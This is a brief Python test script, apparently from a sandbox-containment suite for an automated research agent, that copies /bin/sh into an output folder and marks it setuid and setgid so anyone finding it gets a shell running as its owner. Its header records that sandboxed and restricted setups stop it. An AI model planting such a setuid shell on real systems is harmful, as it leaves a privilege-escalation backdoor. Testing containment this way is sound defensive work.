# attack: leaves a program that runs as its owner for whoever finds it
# group: host
# sandboxed: stopped
# restricted: stopped
# unprotected: works (setuid)
from prepare import *

import shutil


def leave(folder):
    path = folder + "/sh"
    shutil.copy("/bin/sh", path)
    os.chmod(path, 0o6755)


finish()
attempt(lambda: leave(os.environ["AUTORESEARCH_OUT"]), lambda: leave("."))
